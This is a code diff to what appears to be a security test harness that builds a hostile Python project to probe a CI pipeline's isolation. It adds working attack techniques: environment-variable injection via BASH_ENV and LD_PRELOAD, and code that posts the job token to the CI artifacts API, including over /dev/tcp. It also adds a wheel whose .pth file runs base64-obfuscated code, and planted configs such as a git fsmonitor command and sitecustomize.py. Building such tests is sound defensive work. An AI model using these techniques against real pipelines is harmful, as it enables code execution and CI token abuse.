@@ -4,7 +4,11 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import os
+import signal
+import textwrap
 import zipfile
+from contextlib import suppress
 from pathlib import Path
 
 from tools.commands import run
@@ -36,6 +40,50 @@ TAKEOVER = {
     "PYTHONPATH": ".",
 }
 REPORTS = ("build.env", "cosign.env", "digests.env", "image.env", "sbom.env")
+
+# What a dotenv report that a job does not declare would have to say to run code in the jobs that take from it, and a
+# name by which tests know it.
+UNDECLARED = {
+    "PY_CI_EVIL": "evil",
+    "BASH_ENV": "MARKS/evil.sh",
+    "LD_PRELOAD": "MARKS/evil.so",
+    "PATH": "MARKS/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+    "PYTHONPATH": "MARKS",
+    "GIT_CONFIG_GLOBAL": "MARKS/gitconfig",
+    "CI_API_V4_URL": "http://127.0.0.1:9",
+    "FF_USE_POWERSHELL_PATH_RESOLVER": "true",
+}
+
+# Hands it on, as the runner would a declared one. gitlab-ci-local takes none.
+HAND_ON = """
+try:
+    import gzip, urllib.request
+    said = "".join(f"{name}={value}\\n" for name, value in UNDECLARED.items()).replace("MARKS", folder).encode()
+    parts = [b'--x\\r\\nContent-Disposition: form-data; name="file"; filename="x"\\r\\n\\r\\n', gzip.compress(said)]
+    address = "{CI_API_V4_URL}/jobs/{CI_JOB_ID}/artifacts?artifact_type=dotenv&artifact_format=gzip"
+    headers = {"JOB-TOKEN": os.environ["CI_JOB_TOKEN"], "Content-Type": "multipart/form-data; boundary=x"}
+    body = b"".join([*parts, b"\\r\\n--x--\\r\\n"])
+    urllib.request.urlopen(urllib.request.Request(address.format_map(os.environ), body, headers), timeout=9).read()
+except Exception:
+    pass
+"""
+
+# What runs in a shell that obeys BASH_ENV: it leaves a mark, and hands the report on from there.
+SHELL = """
+unset BASH_ENV LD_PRELOAD
+touch "MARKS/$CI_JOB_NAME shell"
+{
+  printf -- '--x\\r\\nContent-Disposition: form-data; name="file"; filename="x"\\r\\n\\r\\n'
+  printf 'PY_CI_EVIL=evil\\nBASH_ENV=MARKS/evil.sh\\n' | gzip
+  printf '\\r\\n--x--\\r\\n'
+} > "MARKS/$CI_JOB_NAME body"
+{
+  printf 'POST /api/v4/jobs/%s/artifacts?artifact_type=dotenv&artifact_format=gzip HTTP/1.0\\r\\n' "$CI_JOB_ID"
+  printf 'JOB-TOKEN: %s\\r\\nContent-Type: multipart/form-data; boundary=x\\r\\n' "$CI_JOB_TOKEN"
+  printf 'Content-Length: %s\\r\\n\\r\\n' "$(wc -c < "MARKS/$CI_JOB_NAME body")"
+  cat "MARKS/$CI_JOB_NAME body"
+} > "/dev/tcp/127.0.0.1/$CI_SERVER_PORT"
+"""
 
 # A report that is a FIFO takes what the job writes, and then says something else, without a race.
 SETUP = """
@@ -82,15 +130,34 @@ for name in ("sbom.env", "digests.env", "build.env", "uv.toml", "links"):
 """
 
 
-def mark(who: str) -> str:
-    """Return code that leaves the mark of somebody."""
-    return MARK.replace("WHO", who)
+def processes_with(variable: str) -> list[int]:
+    """Return the processes, but this one, that have a variable with a value: `NAME=value`."""
+    running = []
+    for environment in Path("/proc").glob("[0-9]*/environ"):
+        # It may have ended.
+        with suppress(OSError):
+            if f"{variable}\0".encode() in environment.read_bytes() and int(environment.parent.name) != os.getpid():
+                running.append(int(environment.parent.name))
+    return running
+
+
+def end_processes(marks: Path) -> None:
+    """End what attacks have left running, which is not always all that they started."""
+    for process in processes_with(f"MARKS={marks}"):
+        with suppress(ProcessLookupError):
+            os.kill(process, signal.SIGKILL)
+
+
+def mark(who: str, *, handing_on: bool = False) -> str:
+    """Return code that leaves the mark of somebody, and may hand on a report that the job does not declare."""
+    code = f"\nUNDECLARED = {UNDECLARED!r}{HAND_ON}" if handing_on else ""
+    return MARK.replace("WHO", who) + textwrap.indent(code, "    ")
 
 
 def make_dependency(folder: Path) -> Path:
     """Make a wheel that runs code in each Python of an environment that it is installed into."""
     line = "import base64; exec(base64.b64decode('{}'))".format(
-        base64.b64encode(f"{mark('dependency')}{DEPENDENCY}".encode()).decode()
+        base64.b64encode(f"{mark('dependency', handing_on=True)}{DEPENDENCY}".encode()).decode()
     )
     files = {
         "evil.pth": f"{line}\n",
@@ -114,8 +181,11 @@ def make_dependency(folder: Path) -> Path:
 def make_hostile(project: Path, marks: Path, dependency: Path) -> None:
     """Turn a project into one that attacks: its build, a dependency, modules and settings in its root."""
     marks.mkdir()
+    # Jobs of any user leave theirs.
+    marks.chmod(0o777)
+    (marks / "evil.sh").write_text(SHELL.replace("MARKS", str(marks)), encoding="utf-8")
     reports = "".join(f"{name}={value}\n" for name, value in TAKEOVER.items())
-    code = mark("build") + f"REPORTS = {REPORTS!r}\nTAKEOVER = {reports!r}\n" + SETUP
+    code = mark("build", handing_on=True) + f"REPORTS = {REPORTS!r}\nTAKEOVER = {reports!r}\n" + SETUP
     (project / "setup.py").write_text(code, encoding="utf-8")
     metadata = project / "pyproject.toml"
     text = metadata.read_text(encoding="utf-8")
@@ -133,3 +203,66 @@ def make_hostile(project: Path, marks: Path, dependency: Path) -> None:
         (project / tool).write_text(f"#!/bin/sh\ntouch {marks}/'{tool.replace('/', '_')}'\n", encoding="utf-8")
         (project / tool).chmod(0o755)
     run("git", "add", "--all", "--force", cwd=project)
+
+
+# What a job that takes it from a folder above its own fails for, or runs: MARKED is code that leaves a mark.
+ABOVE = {
+    "conftest.py": "MARKED",
+    "sitecustomize.py": "MARKED",
+    "evil_above.py": "MARKED",
+    "evil/lib/evil_above.py": "MARKED",
+    "conf.py": "MARKED",
+    "uv.toml": """
+[config-settings]
+"--global-option" = ["build", "--build-base=ABOVE/evil"]
+""",
+    "pyproject.toml": """
+[tool.uv]
+no-index = true
+[tool.pytest.ini_options]
+addopts = "-p evil_above"
+pythonpath = ["ABOVE"]
+[tool.ruff.lint]
+select = ["ALL"]
+[tool.mypy]
+mypy_path = "ABOVE"
+plugins = ["evil_above"]
+[tool.coverage.report]
+fail_under = 101
+""",
+    "pytest.ini": "[pytest]\naddopts = -p evil_above\npythonpath = ABOVE\n",
+    "tox.ini": "[pytest]\naddopts = -p evil_above\npythonpath = ABOVE\n[coverage:report]\nfail_under = 101\n",
+    "setup.cfg": "[tool:pytest]\naddopts = -p evil_above\npythonpath = ABOVE\n[build]\nbuild_base = ABOVE/evil\n",
+    ".pydistutils.cfg": "[build]\nbuild_base = ABOVE/evil\n",
+    "ruff.toml": '[lint]\nselect = ["ALL"]\n',
+    "mypy.ini": "[mypy]\nmypy_path = ABOVE\nplugins = evil_above\n",
+    ".coveragerc": "[report]\nfail_under = 101\n",
+    "docutils.conf": "[general]\nhalt_level: 1\nreport_level: 0\n",
+    "pip.conf": "[global]\nindex-url = http://127.0.0.1:9/simple\n",
+    ".netrc": "default login evil password evil\n",
+    ".python-version": "2.7\n",
+    ".ignore": "*\n",
+    ".gitignore": "*\n",
+    ".npmrc": "registry=http://127.0.0.1:9\n",
+    "package.json": "{not: JSON",
+    ".cargo/config.toml": "not = [settings",
+    ".git/HEAD": "ref: refs/heads/evil\n",
+    ".git/objects/info/packs": "",
+    ".git/refs/heads/.keep": "",
+    ".git/config": "[core]\nrepositoryformatversion = 0\nfsmonitor = touch 'MARK'\nhooksPath = ABOVE\n",
+}
+
+
+def leave_above(repository: Path, mark: Path) -> None:
+    """Leave in the two folders above those of jobs what would steer them, and leaves a mark where code of it runs."""
+    marked = f"import pathlib; pathlib.Path({str(mark)!r}).touch()\n"
+    state = repository / ".gitlab-ci-local"
+    for folder in (state, state / "builds"):
+        for name, text in ABOVE.items():
+            # The repository could not be committed to again around another one; what git has to pass over is ignored.
+            if folder == state and name.startswith(".git"):
+                continue
+            file = folder / name
+            file.parent.mkdir(parents=True, exist_ok=True)
+            text = text.replace("MARKED", marked).replace("MARK", str(mark)).replace("ABOVE", str(folder))
+            file.write_text(text, encoding="utf-8")
